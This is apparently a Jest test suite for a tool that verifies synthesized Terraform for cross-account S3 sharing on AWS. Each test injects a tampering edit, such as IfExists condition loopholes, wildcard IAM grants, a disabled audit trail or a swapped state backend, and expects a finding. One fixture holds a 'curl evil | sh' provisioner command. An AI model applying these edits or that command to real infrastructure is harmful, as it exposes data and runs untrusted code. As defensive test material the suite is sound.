/**
 * Verify fails closed: every edit of the synthesized output that Terraform
 * would apply, and the config does not explain, is a finding naming the
 * address and what it changes; benign edits give nothing. One case per class:
 * IfExists conditions, meta-arguments and blocks, identity grants beyond the
 * share, the audit trail and log buckets, and the smaller ones.
 */
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import fc from 'fast-check';
import { Config } from '../modules/config';
import { readStacksChecked } from '../modules/verify/read-stacks';
import { TfJson, verifyStacks } from '../modules/verify';
import { load } from './support/synth';
import { editPolicy, Output, outputOf } from './support/verify';

const seed = load('cross-account.json');
const prefixed = load('examples/read-only-prefixes.json');
const aps = load('examples/access-points.json');
const audit = load('examples/audit-trail.json');
const cloud = load('examples/per-account-cloud.json');

type Edit = (o: Output) => void;
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- tests edit the JSON freely, as a reviewer would
type Json = Record<string, any>;
const stack = (o: Output, name?: string): Json => (name ? o.stacks[name] : Object.values(o.stacks)[0]) as Json;
const res = (o: Output, type: string, name: string, stackName?: string): Json =>
  stack(o, stackName).resource[type][name];
const policyOf =
  (type: string, name: string, edit: Parameters<typeof editPolicy>[4], attribute = 'policy'): Edit =>
  (o) =>
    editPolicy(o.stacks, type, name, attribute, edit);

/** Each finding as "kind where sid: message". */
async function findingsOf(config: Config, edit: Edit): Promise<{ lines: string[]; ok: boolean }> {
  const o = outputOf(config);
  edit(o);
  const r = await verifyStacks(config, o.stacks, o.routes);
  return { lines: r.findings.map((f) => `${f.kind} ${f.where} ${f.sid}: ${f.message}`), ok: r.ok };
}

async function expectFinding(config: Config, edit: Edit, ...expected: string[]) {
  const r = await findingsOf(config, edit);
  expect(r.ok).toBe(false);
  for (const e of expected) expect(r.lines.join('\n')).toContain(e);
}

const ifExists = (d: { Statement: Json[] }, key: string) =>
  d.Statement.forEach((s) => {
    for (const op of Object.keys(s.Condition ?? {})) {
      if (!(key in s.Condition[op])) continue;
      s.Condition[`${op}IfExists`] = { ...(s.Condition[`${op}IfExists`] ?? {}), [key]: s.Condition[op][key] };
      delete s.Condition[op][key];
      if (Object.keys(s.Condition[op]).length === 0) delete s.Condition[op];
    }
  });

describe('a condition whose key may be absent binds nothing', () => {
  test('Principal "*" behind ArnEqualsIfExists aws:PrincipalArn: anonymous read, confirmed by the engine', async () => {
    const o = outputOf(seed);
    policyOf('aws_s3_bucket_policy', 'bucket', (d) =>
      d.Statement.push({
        Sid: 'AnonymousIfExists',
        Effect: 'Allow',
        Principal: '*',
        Action: 's3:GetObject',
        Resource: 'arn:aws:s3:::my-shared-bucket/*',
        Condition: { ArnEqualsIfExists: { 'aws:PrincipalArn': 'arn:aws:iam::111111111111:role/RoleInAccountA' } },
      }),
    )(o);
    const r = await verifyStacks(seed, o.stacks, o.routes);
    const f = r.findings.find((x) => x.sid === 'AnonymousIfExists');
    expect(f).toMatchObject({ kind: 'principal', where: 'cross-account:aws_s3_bucket_policy.bucket' });
    expect(f!.message).toContain('any principal of any account');
    expect(f!.confirmed).toBe(true);
  });

  test('StringEqualsIfExists s3:DataAccessPointArn lets a role skip its access point', () =>
    expectFinding(
      aps,
      policyOf('aws_s3_bucket_policy', 'bucket', (d) => ifExists(d, 's3:DataAccessPointArn')),
      'cross-account:aws_s3_bucket_policy.bucket ConsumerPartnerMlReadWriteLocationViaAccessPoint',
    ));

  test('StringLikeIfExists s3:prefix lets a listing without a prefix see the whole bucket', () =>
    expectFinding(
      prefixed,
      policyOf('aws_s3_bucket_policy', 'bucket', (d) => ifExists(d, 's3:prefix')),
      'listing cross-account:aws_s3_bucket_policy.bucket',
    ));

  test('kms:ViaService IfExists in the key policy lets KMS be called directly', () =>
    expectFinding(
      seed,
      policyOf('aws_kms_key', 'bucket', (d) => ifExists(d, 'kms:ViaService')),
      'may call KMS directly, not only through S3',
    ));

  test('the encryption context IfExists in the key policy: any data the key encrypts', () =>
    expectFinding(
      prefixed,
      policyOf('aws_kms_key', 'bucket', (d) => ifExists(d, 'kms:EncryptionContext:aws:s3:arn')),
      'may decrypt data of anything the key encrypts',
    ));

  test('ForAllValues on aws:PrincipalArn (true when absent) does not pin the principal', () =>
    expectFinding(
      seed,
      policyOf('aws_s3_bucket_policy', 'bucket', (d) =>
        d.Statement.forEach((s) => {
          if (!s.Condition?.ArnEquals) return;
          s.Condition['ForAllValues:ArnEquals'] = s.Condition.ArnEquals;
          delete s.Condition.ArnEquals;
        }),
      ),
      'principal cross-account:aws_s3_bucket_policy.bucket',
    ));
});

describe('meta-arguments, blocks and attributes synth never writes', () => {
  test.each<[string, Edit, string]>([
    [
      'count = 0 on the bucket policy (no TLS deny, no encryption denies)',
      (o) => (res(o, 'aws_s3_bucket_policy', 'bucket').count = 0),
      'unexplained cross-account:aws_s3_bucket_policy.bucket -: the meta-argument count',
    ],
    [
      'count = 0 on Block Public Access',
      (o) => (res(o, 'aws_s3_bucket_public_access_block', 'bucket').count = 0),
      'cross-account:aws_s3_bucket_public_access_block.bucket -: the meta-argument count',
    ],
    [
      'for_each on versioning',
      (o) => (res(o, 'aws_s3_bucket_versioning', 'bucket').for_each = '${toset([])}'),
      'cross-account:aws_s3_bucket_versioning.bucket -: the meta-argument for_each',
    ],
    [
      'lifecycle.ignore_changes on the bucket policy',
      (o) => (res(o, 'aws_s3_bucket_policy', 'bucket').lifecycle = { ignore_changes: ['policy'] }),
      'the meta-argument lifecycle',
    ],
    [
      'a local-exec provisioner',
      (o) => (res(o, 'aws_s3_bucket', 'bucket').provisioner = [{ 'local-exec': { command: 'curl evil | sh' } }]),
      'the meta-argument provisioner',
    ],
    [
      'force_destroy on the bucket',
      (o) => (res(o, 'aws_s3_bucket', 'bucket').force_destroy = true),
      'cross-account:aws_s3_bucket.bucket -: the attribute force_destroy (true)',
    ],
    [
      'a top-level module with a remote source',
      (o) => (stack(o).module = { x: { source: 'git::https://example.invalid/m.git' } }),
      'unexplained cross-account:module -: a top-level "module" block',
    ],
    [
      'a check block',
      (o) => (stack(o).check = { c: { assert: [{ condition: true, error_message: 'x' }] } }),
      'a top-level "check" block',
    ],
    [
      'the backend pointed at another host (state holds External IDs)',
      (o) => (stack(o).terraform.backend = { http: { address: 'https://state.example.invalid' } }),
      'posture cross-account:terraform.backend -: state goes to {"http"',
    ],
    [
      'the bucket policy moved to the consumer account provider',
      (o) => (res(o, 'aws_s3_bucket_policy', 'bucket').provider = 'aws.consumer_analytics'),
      'its provider is pinned to account 111111111111, but it belongs to the producer (222222222222)',
    ],
    [
      'a provider endpoint override',
      (o) => (stack(o).provider.aws[0].endpoints = [{ s3: 'https://s3.example.invalid' }]),
      'cross-account:provider.aws[0] -: "endpoints": synth sets no such provider argument',
    ],
    [
      'another provider source',
      (o) => (stack(o).terraform.required_providers.aws.source = 'evil/aws'),
      'the aws provider is required as {"source":"evil/aws"',
    ],
    [
      'a resource type synth never writes',
      (o) =>
        (stack(o).resource.aws_iam_role_policy_attachment = {
          admin: { role: 'x', policy_arn: 'arn:aws:iam::aws:policy/AdministratorAccess', provider: 'aws.producer' },
        }),
      'a aws_iam_role_policy_attachment: synth writes no such resource',
    ],
    [
      'a template directive in a policy',
      policyOf('aws_s3_bucket_policy', 'bucket', (d) => (d.Statement[0].Sid = '%{ if true }Open%{ endif }')),
      'a template directive (%{...})',
    ],
    [
      'a function call in an attribute',
      (o) => (res(o, 'aws_s3_bucket', 'bucket').bucket = '${lower("MY-SHARED-BUCKET")}'),
      'is not a plain reference to an attribute',
    ],
    [
      'key rotation off',
      (o) => (res(o, 'aws_kms_key', 'bucket').enable_key_rotation = false),
      'posture cross-account:aws_kms_key.bucket -: enable_key_rotation is false, the config implies true',
    ],
    [
      'key deletion window shortened',
      (o) => (res(o, 'aws_kms_key', 'bucket').deletion_window_in_days = 7),
      'deletion_window_in_days is 7, the config implies 30',
    ],
    [
      'Block Public Access setting removed (defaults to false)',
      (o) => delete res(o, 'aws_s3_bucket_public_access_block', 'bucket').restrict_public_buckets,
      'restrict_public_buckets is not set, the config implies true',
    ],
    [
      'versioning removed',
      (o) => delete stack(o).resource.aws_s3_bucket_versioning,
      'posture bucket my-shared-bucket -: no aws_s3_bucket_versioning on my-shared-bucket',
    ],
  ])('%s', (_, edit, expected) => expectFinding(seed, edit, expected));

  test("an access point's VPC changed", () =>
    expectFinding(
      aps,
      (o) =>
        (res(o, 'aws_s3_access_point', 'access_point_ingest').vpc_configuration = { vpc_id: 'vpc-0000000000000000' }),
      'cross-account:aws_s3_access_point.access_point_ingest -: vpc_configuration is {"vpc_id":"vpc-0000000000000000"}, the config implies {"vpc_id":"vpc-0abc12345def67890"}',
    ));

  test('a consumer stack reading another state', () =>
    expectFinding(
      cloud,
      (o) => (stack(o, 'consumer-analytics').data.terraform_remote_state.producer.config.organization = 'evil'),
      'consumer-analytics:data.terraform_remote_state.producer -: config is',
    ));

  test('a Terraform Cloud workspace of another organization', () =>
    expectFinding(
      cloud,
      (o) => (stack(o, 'producer').terraform.cloud.organization = 'evil'),
      'posture producer:terraform.cloud -: state goes to {"organization":"evil"',
    ));
});

describe('identity policies grant nothing beyond the share', () => {
  test.each<[string, Config, string, string, Json, string]>([
    [
      'iam:* on * in the producer role a consumer assumes',
      seed,
      'aws_iam_role_policy',
      'producer_reporting',
      { Sid: 'Admin', Effect: 'Allow', Action: 'iam:*', Resource: '*' },
      'action cross-account:aws_iam_role_policy.producer_reporting Admin: arn:aws:iam::222222222222:role/S3AccessFromA (its identity policy): iam:* on *',
    ],
    [
      's3:GetObject on every bucket in a consumer identity policy',
      seed,
      'aws_iam_role_policy',
      'consumer_analytics',
      { Sid: 'Everything', Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::*' },
      's3:GetObject on arn:aws:s3:::*, beyond arn:aws:s3:::my-shared-bucket and its access points',
    ],
    [
      'another bucket whose name starts with the shared one',
      seed,
      'aws_iam_role_policy',
      'consumer_analytics',
      { Sid: 'Sibling', Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::my-shared-bucket-private/*' },
      's3:GetObject on arn:aws:s3:::my-shared-bucket-private/*',
    ],
    [
      'NotAction in a consumer identity policy',
      seed,
      'aws_iam_role_policy',
      'consumer_analytics',
      { Sid: 'AllBut', Effect: 'Allow', NotAction: 's3:DeleteObject', Resource: '*' },
      'AllBut',
    ],
    [
      'kms:Decrypt on every key',
      seed,
      'aws_iam_role_policy',
      'consumer_analytics',
      { Sid: 'AnyKey', Effect: 'Allow', Action: 'kms:Decrypt', Resource: '*' },
      'kms:Decrypt on *, not the bucket key',
    ],
  ])('%s', (_, config, type, name, statement, expected) =>
    expectFinding(
      config,
      policyOf(type, name, (d) => d.Statement.push(statement)),
      expected,
    ),
  );

  test("another account's root in a created role's trust", () =>
    expectFinding(
      seed,
      policyOf(
        'aws_iam_role',
        'consumer_analytics',
        (d) =>
          d.Statement.push({
            Effect: 'Allow',
            Principal: { AWS: 'arn:aws:iam::999999999999:root' },
            Action: 'sts:AssumeRole',
          }),
        'assume_role_policy',
      ),
      'trust cross-account:aws_iam_role.consumer_analytics #1: any principal of account 999999999999 may assume',
    ));
});

describe('the audit trail and log buckets are proved like the shared bucket', () => {
  const accessLogs = (edit: Parameters<typeof editPolicy>[4]) => policyOf('aws_s3_bucket_policy', 'access_logs', edit);
  test.each<[string, Edit, string]>([
    [
      'the access-log bucket readable by a foreign account',
      accessLogs((d) =>
        d.Statement.push({
          Sid: 'ForeignRead',
          Effect: 'Allow',
          Principal: { AWS: 'arn:aws:iam::999999999999:root' },
          Action: 's3:GetObject',
          Resource: 'arn:aws:s3:::acme-audited-exchange-access-logs/*',
        }),
      ),
      'principal cross-account:aws_s3_bucket_policy.access_logs ForeignRead: any principal of account 999999999999: is admitted to log bucket',
    ],
    [
      'the trail bucket readable by anyone',
      policyOf('aws_s3_bucket_policy', 'trail_logs', (d) =>
        d.Statement.push({ Sid: 'Anyone', Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: '*' }),
      ),
      'principal cross-account:aws_s3_bucket_policy.trail_logs Anyone',
    ],
    [
      'log delivery without its source conditions (confused deputy)',
      accessLogs((d) => d.Statement.forEach((s) => delete s.Condition?.StringEquals)),
      "may write to log bucket acme-audited-exchange-access-logs for any account's aws:sourceaccount (confused deputy)",
    ],
    [
      "the log bucket's TLS deny removed",
      accessLogs((d) => (d.Statement = d.Statement.filter((s) => s.Sid !== 'DenyInsecureTransport'))),
      'the policy of log bucket acme-audited-exchange-access-logs does not deny every request over plain HTTP',
    ],
    [
      "the trail bucket's Block Public Access off",
      (o) => (res(o, 'aws_s3_bucket_public_access_block', 'trail_logs').block_public_policy = false),
      'cross-account:aws_s3_bucket_public_access_block.trail_logs -: block_public_policy is false',
    ],
    [
      "the access-log bucket's versioning removed",
      (o) => delete stack(o).resource.aws_s3_bucket_versioning.access_logs,
      'no aws_s3_bucket_versioning on acme-audited-exchange-access-logs',
    ],
    ['the trail deleted', (o) => delete stack(o).resource.aws_cloudtrail, 'posture audit trail -: no aws_cloudtrail'],
    [
      'the trail stopped',
      (o) => (res(o, 'aws_cloudtrail', 'bucket_data_events').enable_logging = false),
      'the attribute enable_logging (false)',
    ],
    [
      'the logging target changed',
      (o) => (res(o, 'aws_s3_bucket_logging', 'bucket').target_bucket = 'someone-elses-bucket'),
      'target_bucket is "someone-elses-bucket", the config implies "acme-audited-exchange-access-logs"',
    ],
  ])('%s', (_, edit, expected) => expectFinding(audit, edit, expected));
});

describe('the bucket policy speaks only of its bucket', () => {
  test.each<[string, Json]>([
    [
      'an Allow on another bucket',
      {
        Sid: 'Other',
        Effect: 'Allow',
        Principal: '*',
        Action: 's3:*',
        Resource: ['arn:aws:s3:::other-bucket', 'arn:aws:s3:::other-bucket/*'],
      },
    ],
    [
      'an Allow on a bucket whose name extends ours',
      {
        Sid: 'Other',
        Effect: 'Allow',
        Principal: { AWS: 'arn:aws:iam::111111111111:root' },
        Action: 's3:GetObject',
        Resource: 'arn:aws:s3:::my-shared-bucket-2/*',
      },
    ],
    [
      'a Deny with NotResource',
      {
        Sid: 'Other',
        Effect: 'Deny',
        Principal: '*',
        Action: 's3:GetObject',
        NotResource: 'arn:aws:s3:::other-bucket/*',
      },
    ],
  ])('%s is a finding', (_, statement) =>
    expectFinding(
      seed,
      policyOf('aws_s3_bucket_policy', 'bucket', (d) => d.Statement.push(statement)),
      'unexplained cross-account:aws_s3_bucket_policy.bucket Other: the bucket policy of arn:aws:s3:::my-shared-bucket names',
      'which is not this bucket or one of its objects',
    ),
  );
});

describe('posture denies count only when they bind everyone', () => {
  test('a NotPrincipal exemption from the TLS deny', () =>
    expectFinding(
      seed,
      policyOf('aws_s3_bucket_policy', 'bucket', (d) =>
        d.Statement.forEach((s) => {
          if (s.Sid === 'DenyInsecureTransport') {
            delete s.Principal;
            s.NotPrincipal = { AWS: 'arn:aws:iam::111111111111:role/RoleInAccountA' };
          }
        }),
      ),
      'posture cross-account:aws_s3_bucket_policy.bucket -: the bucket policy does not deny every request over plain HTTP',
    ));

  test('an encryption deny narrowed to one account', () =>
    expectFinding(
      seed,
      policyOf('aws_s3_bucket_policy', 'bucket', (d) =>
        d.Statement.forEach((s) => {
          if (s.Sid === 'DenyOtherEncryption') s.Condition.StringEquals = { 'aws:PrincipalAccount': '999999999999' };
        }),
      ),
      'the bucket policy does not deny uploads that name another encryption',
    ));
});

describe('benign edits give no finding', () => {
  const reverseKeys = (v: unknown): unknown =>
    Array.isArray(v)
      ? v.map(reverseKeys)
      : typeof v === 'object' && v !== null
        ? Object.fromEntries(
            Object.entries(v)
              .reverse()
              .map(([k, x]) => [k, reverseKeys(x)]),
          )
        : v;
  test.each<[string, Config, Edit]>([
    ['statements reordered', seed, policyOf('aws_s3_bucket_policy', 'bucket', (d) => d.Statement.reverse())],
    [
      'Sids renamed',
      prefixed,
      policyOf('aws_s3_bucket_policy', 'bucket', (d) =>
        d.Statement.forEach((s, i) => (s.Sid = String(s.Sid).startsWith('Deny') ? s.Sid : `Renamed${i}`)),
      ),
    ],
    [
      'key order reversed everywhere',
      audit,
      (o) => {
        for (const k of Object.keys(o.stacks)) o.stacks[k] = reverseKeys(o.stacks[k]) as TfJson;
      },
    ],
    [
      'whitespace in a policy string',
      seed,
      (o) => {
        const r = res(o, 'aws_kms_key', 'bucket');
        r.policy = JSON.stringify(JSON.parse(r.policy), null, 4);
      },
    ],
    [
      'a one-statement trust written as an object',
      seed,
      (o) => {
        const r = res(o, 'aws_iam_role', 'producer_reporting');
        const d = JSON.parse(r.assume_role_policy);
        r.assume_role_policy = JSON.stringify({ ...d, Statement: d.Statement[0] });
      },
    ],
  ])('%s', async (_, config, edit) => {
    const r = await findingsOf(config, edit);
    expect(r.lines).toEqual([]);
    expect(r.ok).toBe(true);
  });

  test.each([
    'cross-account.json',
    'examples/access-points.json',
    'examples/audit-trail.json',
    'examples/legacy-acl.json',
    'examples/multi-account.json',
    'examples/per-account-cloud.json',
    'examples/read-only-prefixes.json',
    'examples/sse-s3-existing-bucket.json',
  ])('%s as synthesized', async (file) => {
    const r = await findingsOf(load(file), () => undefined);
    expect(r.lines).toEqual([]);
  });
});

describe('a stack folder holds only what synth writes', () => {
  let out: string;
  const folder = () => path.join(out, 'stacks', 'cross-account');
  beforeEach(() => {
    out = fs.mkdtempSync(path.join(os.tmpdir(), 'verify-folder-'));
    fs.mkdirSync(folder(), { recursive: true });
    fs.writeFileSync(path.join(folder(), 'cdk.tf.json'), JSON.stringify(outputOf(seed).stacks['cross-account']));
    fs.writeFileSync(
      path.join(out, 'manifest.json'),
      JSON.stringify({
        stacks: {
          'cross-account': {
            name: 'cross-account',
            workingDirectory: 'stacks/cross-account',
            synthesizedStackPath: 'stacks/cross-account/cdk.tf.json',
          },
        },
      }),
    );
  });
  afterEach(() => fs.rmSync(out, { recursive: true, force: true }));

  test.each([
    ['x_override.tf.json', 'is an override file: Terraform merges it over cdk.tf.json'],
    ['override.tf', 'is an override file'],
    ['extra.tf.json', 'is a Terraform file: Terraform loads it beside cdk.tf.json'],
    ['admin.tf', 'is a Terraform file'],
    ['terraform.tfvars', 'is a variables file'],
    ['plan', 'is a saved plan: it would be applied as it is, unread'],
    ['notes.txt', 'is not written by synth'],
  ])('%s is refused by name', (name, message) => {
    fs.writeFileSync(path.join(folder(), name), '{}');
    expect(() => readStacksChecked(out, fs, ['cross-account'])).toThrow(`${path.join(folder(), name)} ${message}`);
  });

  test("Terraform's working files are accepted", () => {
    fs.mkdirSync(path.join(folder(), '.terraform'));
    fs.writeFileSync(path.join(folder(), '.terraform.lock.hcl'), '');
    expect(Object.keys(readStacksChecked(out, fs, ['cross-account']))).toEqual(['cross-account']);
  });

  test('a stack plan.json does not name is refused', () => {
    expect(() => readStacksChecked(out, fs, ['producer'])).toThrow(
      'holds the stacks cross-account, synth wrote producer',
    );
  });

  test('a manifest pointing cdktf elsewhere is refused', () => {
    const m = JSON.parse(fs.readFileSync(path.join(out, 'manifest.json'), 'utf8'));
    m.stacks['cross-account'].workingDirectory = '../elsewhere';
    fs.writeFileSync(path.join(out, 'manifest.json'), JSON.stringify(m));
    expect(() => readStacksChecked(out, fs)).toThrow('stack cross-account points cdktf to ../elsewhere');
  });
});

describe('random widenings of every document kind, the audit ones included (fast-check)', () => {
  // [type, name, attribute, kind] of every policy in the audit example's output.
  const documents: [string, string, string, 'resource' | 'identity' | 'trust'][] = [
    ['aws_s3_bucket_policy', 'bucket', 'policy', 'resource'],
    ['aws_s3_bucket_policy', 'access_logs', 'policy', 'resource'],
    ['aws_s3_bucket_policy', 'trail_logs', 'policy', 'resource'],
    ['aws_kms_key', 'bucket', 'policy', 'resource'],
    ['aws_iam_role', 'producer_finance', 'assume_role_policy', 'trust'],
    ['aws_iam_role_policy', 'producer_finance', 'policy', 'identity'],
  ];
  const open = (kind: string): Json =>
    kind === 'identity'
      ? { Sid: 'RandomOpen', Effect: 'Allow', Action: '*', Resource: '*' }
      : kind === 'trust'
        ? { Sid: 'RandomOpen', Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }
        : { Sid: 'RandomOpen', Effect: 'Allow', Principal: '*', Action: '*', Resource: '*' };
  const documentEdit = fc
    .constantFrom(...documents)
    .map(([type, name, attribute, kind]): [string, Edit] => [
      `${type}.${name} opened`,
      policyOf(type, name, (d) => d.Statement.push(open(kind)), attribute),
    ]);
  const attributeEdit = fc
    .tuple(
      fc.constantFrom(
        ['aws_s3_bucket', 'trail_logs'],
        ['aws_s3_bucket_public_access_block', 'access_logs'],
        ['aws_cloudtrail', 'bucket_data_events'],
        ['aws_kms_key', 'bucket'],
        ['aws_s3_bucket_policy', 'bucket'],
      ),
      fc.constantFrom<[string, unknown]>(
        ['count', 0],
        ['for_each', {}],
        ['lifecycle', { ignore_changes: 'all' }],
        ['provisioner', []],
        ['x_unknown', true],
      ),
    )
    .map(([[type, name], [key, value]]): [string, Edit] => [
      `${key} on ${type}.${name}`,
      (o) => (res(o, type, name)[key] = value),
    ]);
  test('every edit, alone or with others, fails verify', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(documentEdit, attributeEdit), { minLength: 1, maxLength: 3 }),
        async (edits) => {
          const r = await findingsOf(audit, (o) => edits.forEach(([, edit]) => edit(o)));
          if (r.ok) throw new Error(`verify passed after: ${edits.map(([n]) => n).join(', ')}`);
        },
      ),
      { numRuns: Number(process.env.PROPERTY_RUNS ?? 16), seed: Number(process.env.PROPERTY_SEED ?? 20261203) },
    );
  });
});
